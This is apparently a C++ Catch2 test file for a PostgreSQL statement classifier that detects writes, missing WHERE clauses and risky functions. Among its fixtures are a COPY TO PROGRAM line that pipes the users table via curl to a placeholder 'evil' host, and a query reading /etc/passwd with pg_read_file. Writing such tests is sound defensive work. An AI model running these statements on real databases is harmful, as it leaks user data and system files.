#include <catch2/catch.hpp>

#include "targets/postgres/sql_classifier.h"

using bastion::classify_sql;
using bastion::SqlStatement;
using V = std::vector<std::string>;

namespace {
SqlStatement one(const std::string& sql) {
  auto v = classify_sql(sql);
  REQUIRE(v.size() == 1);
  return v[0];
}
}  // namespace

TEST_CASE("splits exactly as the server would", "[sql]") {
  auto v = classify_sql("SELECT 1; SELECT ';' AS x; -- c;\nSELECT $$a;b$$; SELECT E'\\';'");
  REQUIRE(v.size() == 4);
  CHECK(v[0].text == "SELECT 1");
  CHECK(v[1].text == "SELECT ';' AS x");
  CHECK(v[2].text == "-- c;\nSELECT $$a;b$$");
  CHECK(v[3].text == "SELECT E'\\';'");
  CHECK(classify_sql("").empty());
  CHECK(classify_sql("  ;  ; ").empty());
}

TEST_CASE("statement kinds through comments and case", "[sql]") {
  CHECK(one("/* x */ DrOp TABLE people").kind == "drop");
  CHECK(one("/* x */ DrOp TABLE people").writes == V{"people"});
  CHECK(one("select * from public.users u join orders o on o.uid = u.id").kind == "select");
  CHECK(one("select * from public.users u join orders o on o.uid = u.id").reads == V{"public.users", "orders"});
  CHECK(one("INSERT INTO audit.log SELECT * FROM src").writes == V{"audit.log"});
  CHECK(one("INSERT INTO audit.log SELECT * FROM src").reads == V{"src"});
  CHECK(one("TRUNCATE a, b.c").kind == "truncate");
  CHECK(one("TRUNCATE a, b.c").writes == V{"a", "b.c"});
  CHECK(one("ALTER TABLE t ADD COLUMN c int").kind == "alter");
  CHECK(one("CREATE TABLE t2 (id int)").kind == "create");
  CHECK(one("GRANT SELECT ON t TO bob").kind == "grant");
  CHECK(one("REVOKE SELECT ON t FROM bob").kind == "revoke");
  CHECK(one("BEGIN").kind == "begin");
  CHECK(one("commit").kind == "commit");
  CHECK(one("ROLLBACK").kind == "rollback");
  CHECK(one("SET search_path = x").kind == "set");
  CHECK(one("CALL do_things(1)").kind == "call");
  CHECK(one("DO $$ BEGIN PERFORM 1; END $$").kind == "do");
  CHECK(one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE").kind == "merge");
  CHECK_FALSE(one("SELECT 1").writes_data);
  CHECK(one("DELETE FROM t WHERE id = 1").writes_data);
}

TEST_CASE("writes hidden in reads are found", "[sql]") {
  auto cte = one("WITH d AS (DELETE FROM a.b RETURNING *) SELECT * FROM d JOIN c ON true");
  CHECK(cte.kind == "select");
  CHECK(cte.writes_data);
  CHECK(cte.writes == V{"a.b"});
  CHECK(cte.reads == V{"c"});  // d is the CTE, not a table
  CHECK_FALSE(cte.has_where);
  auto into = one("SELECT * INTO new_table FROM users");
  CHECK(into.writes_data);
  CHECK(into.writes == V{"new_table"});
  CHECK(into.reads == V{"users"});
  auto analyze = one("EXPLAIN ANALYZE DELETE FROM orders");
  CHECK(analyze.kind == "delete");
  CHECK(analyze.writes == V{"orders"});
  CHECK_FALSE(analyze.has_where);
  auto plain = one("EXPLAIN DELETE FROM orders");
  CHECK(plain.kind == "explain");
  CHECK_FALSE(plain.writes_data);
  CHECK(plain.reads == V{"orders"});
}

TEST_CASE("UPDATE and DELETE without WHERE", "[sql]") {
  CHECK_FALSE(one("UPDATE accounts SET balance = 0").has_where);
  CHECK(one("UPDATE accounts SET balance = 0 WHERE id = 5").has_where);
  CHECK_FALSE(one("delete from sessions").has_where);
  CHECK(one("DELETE FROM sessions WHERE expires < now()").has_where);
  CHECK(one("SELECT 1").has_where);
}

TEST_CASE("COPY and functions with side effects", "[sql]") {
  auto prog = one("COPY users TO PROGRAM 'curl -d @- http://evil'");
  CHECK(prog.kind == "copy");
  CHECK(prog.copy_program);
  CHECK(prog.reads == V{"users"});
  auto from = one("COPY users FROM '/tmp/x.csv'");
  CHECK(from.writes == V{"users"});
  CHECK(from.writes_data);
  CHECK_FALSE(from.copy_program);
  auto f = one("SELECT pg_terminate_backend(pid), pg_catalog.pg_read_file('/etc/passwd') FROM pg_stat_activity");
  CHECK(f.functions == V{"pg_terminate_backend", "pg_catalog.pg_read_file"});
  CHECK(f.reads == V{"pg_stat_activity"});
}

TEST_CASE("unparseable input is reported, not dropped", "[sql]") {
  auto v = classify_sql("SELEC 1; SELECT 2");
  REQUIRE(v.size() == 2);
  CHECK(v[0].kind == "unknown");
  CHECK(v[0].parse_error == "syntax error at or near \"SELEC\"");
  CHECK(v[1].kind == "select");
  CHECK(v[1].parse_error.empty());
  auto middle = classify_sql("SELECT 1; SELEC 2; SELECT 3");
  REQUIRE(middle.size() == 3);
  CHECK(middle[1].text == "SELEC 2");
  CHECK(middle[1].kind == "unknown");
  CHECK(middle[2].kind == "select");
  auto unterminated = classify_sql("SELECT 'open");
  REQUIRE(unterminated.size() == 1);
  CHECK(unterminated[0].kind == "unknown");
  CHECK_FALSE(unterminated[0].parse_error.empty());
  auto huge = classify_sql(std::string(bastion::kSqlMaxInput + 1, ' '));
  REQUIRE(huge.size() == 1);
  CHECK(huge[0].parse_error == "input too large to analyse");
}
